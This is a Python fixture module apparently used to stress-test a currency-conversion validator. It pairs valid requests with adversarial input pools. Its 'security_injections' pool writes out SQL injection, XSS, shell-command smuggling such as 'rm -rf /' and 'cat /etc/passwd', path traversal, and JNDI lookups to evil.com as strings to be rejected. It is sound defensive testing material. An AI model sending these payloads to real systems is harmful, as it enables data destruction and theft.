"""
Request fixture pools for the scenario mix.

Each adversarial category carries a declared severity, a category tag
(``validation`` or ``security``) and whether the validator is expected to
reject its inputs. Mathematical edge cases are legitimate but awkward
numbers, so the validator is allowed to accept them.
"""

import re
import sys
from datetime import datetime
from decimal import Decimal
from typing import Any

MAX_SAFE_INTEGER = 2**53 - 1


def _usd_eur(amount: Any) -> dict[str, Any]:
    return {"amount": amount, "from_currency": "USD", "to_currency": "EUR"}


def _from_code(code: Any) -> dict[str, Any]:
    return {"amount": 100, "from_currency": code, "to_currency": "EUR"}


VALID_REQUESTS: list[dict[str, Any]] = [
    {"amount": 100, "from_currency": "USD", "to_currency": "EUR"},
    {"amount": 50, "from_currency": "EUR", "to_currency": "GBP"},
    {"amount": 1000, "from_currency": "GBP", "to_currency": "JPY"},
    {"amount": 25.5, "from_currency": "CAD", "to_currency": "USD"},
    {"amount": 0.01, "from_currency": "USD", "to_currency": "INR"},
    {"amount": 999.99, "from_currency": "AUD", "to_currency": "CHF"},
    {"amount": 1.23, "from_currency": "CHF", "to_currency": "CNY"},
    {"amount": 456.78, "from_currency": "CNY", "to_currency": "BRL"},
    {"amount": 0.5, "from_currency": "BRL", "to_currency": "KRW"},
    {"amount": 10000, "from_currency": "KRW", "to_currency": "MXN"},
    {"amount": 75.25, "from_currency": "MXN", "to_currency": "SGD"},
    {"amount": 333.33, "from_currency": "SGD", "to_currency": "HKD"},
    {"amount": 888.88, "from_currency": "HKD", "to_currency": "SEK"},
    {"amount": 555.55, "from_currency": "SEK", "to_currency": "NOK"},
    {"amount": 777.77, "from_currency": "NOK", "to_currency": "DKK"},
    {"amount": 12.34, "from_currency": "DKK", "to_currency": "PLN"},
    {"amount": 56.78, "from_currency": "PLN", "to_currency": "CZK"},
    {"amount": 90.12, "from_currency": "CZK", "to_currency": "HUF"},
    {"amount": 34.56, "from_currency": "HUF", "to_currency": "ZAR"},
    {"amount": 78.9, "from_currency": "ZAR", "to_currency": "THB"},
    {"amount": 123.45, "from_currency": "THB", "to_currency": "MYR"},
    {"amount": 67.89, "from_currency": "MYR", "to_currency": "PHP"},
    {"amount": 234.56, "from_currency": "PHP", "to_currency": "IDR"},
    {"amount": 345.67, "from_currency": "IDR", "to_currency": "USD"},
    {"amount": 456.78, "from_currency": "EUR", "to_currency": "JPY"},
]


SCENARIO_CATALOG: dict[str, dict[str, Any]] = {
    "extreme_data_types": {
        "name": "Extreme Data Types",
        "severity": "high",
        "category_tag": "validation",
        "expects_rejection": True,
        "inputs": [
            _usd_eur(float("nan")),
            _usd_eur(float("inf")),
            _usd_eur(float("-inf")),
            _usd_eur(MAX_SAFE_INTEGER + 2),
            _usd_eur(-MAX_SAFE_INTEGER),
            _usd_eur(sys.float_info.max),
            _usd_eur(-5e-324),
            _usd_eur("not-a-number"),
            _usd_eur(None),
            {"from_currency": "USD", "to_currency": "EUR"},
            _usd_eur({}),
            _usd_eur([]),
            _usd_eur(True),
            _usd_eur(False),
            _usd_eur(object()),
            _usd_eur(10**30),
            _usd_eur(datetime(2024, 1, 1)),
            _usd_eur(re.compile("100")),
            _usd_eur(ValueError("100")),
            _usd_eur(complex(100, 0)),
        ],
    },
    "currency_attacks": {
        "name": "Advanced Currency Attacks",
        "severity": "medium",
        "category_tag": "validation",
        "expects_rejection": True,
        "inputs": [
            _from_code("INVALID"),
            {"amount": 100, "from_currency": "USD", "to_currency": "XYZ"},
            _from_code(""),
            _from_code(" "),
            _from_code("\t"),
            _from_code("\n"),
            _from_code("\r"),
            _from_code("usd"),
            _from_code("Usd"),
            _from_code("TOOLONG"),
            _from_code("U$D"),
            _from_code("US-D"),
            _from_code("US_D"),
            _from_code("123"),
            _from_code("USD123"),
            _from_code(None),
            _from_code("US"),
            _from_code("USDD"),
            _from_code("US D"),
            _from_code("USD\n"),
        ],
    },
    "boundary_violations": {
        "name": "Extreme Boundary Violations",
        "severity": "high",
        "category_tag": "validation",
        "expects_rejection": True,
        "inputs": [
            _usd_eur(-100),
            _usd_eur(-0.000001),
            _usd_eur(0),
            _usd_eur(-0.0),
            _usd_eur(-0.01),
            _usd_eur(MAX_SAFE_INTEGER + 1),
            _usd_eur(1e308),
            _usd_eur(-1e308),
            _usd_eur(-sys.float_info.max),
            _usd_eur(999999999999999999999),
            _usd_eur(-999999999999999999999),
            _usd_eur(-0.000000000000000001),
            _usd_eur(2**1024),
            _usd_eur(-(2**1024)),
            _usd_eur(float("inf")),
            _usd_eur(float("-inf")),
            _usd_eur(1e300 * 1e10),
            _usd_eur("-50"),
            _usd_eur("0"),
            _usd_eur(Decimal("-1")),
        ],
    },
    "security_injections": {
        "name": "Advanced Security Injections",
        "severity": "critical",
        "category_tag": "security",
        "expects_rejection": True,
        "inputs": [
            _from_code("'; DROP TABLE rates; --"),
            _from_code("' OR '1'='1"),
            _from_code("UNION SELECT * FROM users"),
            _from_code("'; DELETE FROM currencies; --"),
            _from_code("<script>alert('xss')</script>"),
            _from_code("<img src=x onerror=alert(1)>"),
            _from_code("javascript:alert(document.cookie)"),
            _from_code("USD; rm -rf /"),
            _from_code("USD && cat /etc/passwd"),
            _from_code("../../../etc/passwd"),
            _from_code("..\\..\\..\\windows\\system32"),
            _from_code("${jndi:ldap://evil.com/a}"),
            _from_code("${jndi:dns://evil.com}"),
            _from_code("{{7*7}}"),
            _from_code("<%=7*7%>"),
            _from_code("#{7*7}"),
            _from_code("%{7*7}"),
            _from_code("exec('rm -rf /')"),
            _from_code("eval('malicious code')"),
            _from_code("__import__('os')"),
        ],
    },
    "malformed_data": {
        "name": "Complex Malformed Data",
        "severity": "medium",
        "category_tag": "validation",
        "expects_rejection": True,
        "inputs": [
            _usd_eur({"value": 100, "currency": "USD"}),
            _usd_eur([100, "USD"]),
            _usd_eur(lambda: 100),
            _usd_eur((100,)),
            _usd_eur({100}),
            _usd_eur(frozenset([100])),
            _usd_eur(b"100"),
            _usd_eur(bytearray(b"100")),
            _usd_eur(memoryview(b"100")),
            _usd_eur(range(100)),
            _usd_eur(iter([100])),
            _usd_eur(Decimal("100")),
            _usd_eur(datetime(1970, 1, 1, 0, 1, 40)),
            _usd_eur(ValueError("Amount: 100")),
            _usd_eur(type),
            _usd_eur(Ellipsis),
            _usd_eur(NotImplemented),
            {"amount": 100, "from_currency": ["USD"], "to_currency": "EUR"},
            {"amount": 100, "from_currency": "USD", "to_currency": {"code": "EUR"}},
            {"amount": 100, "from_currency": b"USD", "to_currency": "EUR"},
        ],
    },
    "mathematical_edge_cases": {
        "name": "Mathematical Edge Cases",
        "severity": "low",
        "category_tag": "validation",
        "expects_rejection": False,
        "inputs": [
            {"amount": 0.000000001, "from_currency": "USD", "to_currency": "JPY"},
            {"amount": 999999999.99, "from_currency": "JPY", "to_currency": "USD"},
            {"amount": 3.141592653589793, "from_currency": "EUR", "to_currency": "GBP"},
            {"amount": 2.718281828459045, "from_currency": "GBP", "to_currency": "USD"},
            _usd_eur(sys.float_info.epsilon),
            _usd_eur(sys.float_info.max),
            _usd_eur(1 / 3),
            {"amount": 2**0.5, "from_currency": "EUR", "to_currency": "USD"},
            _usd_eur(2**53),
            _usd_eur(2**-53),
            _usd_eur(0.1 + 0.2),
            _usd_eur(5e-324),
            _usd_eur(float("nan")),
            _usd_eur("1e3"),
            _usd_eur("  42.5  "),
            _usd_eur(0**0),
            _usd_eur(7 // 2),
            _usd_eur(10 % 3),
            _usd_eur(1e-300),
            _usd_eur(123456789.123456789),
        ],
    },
}
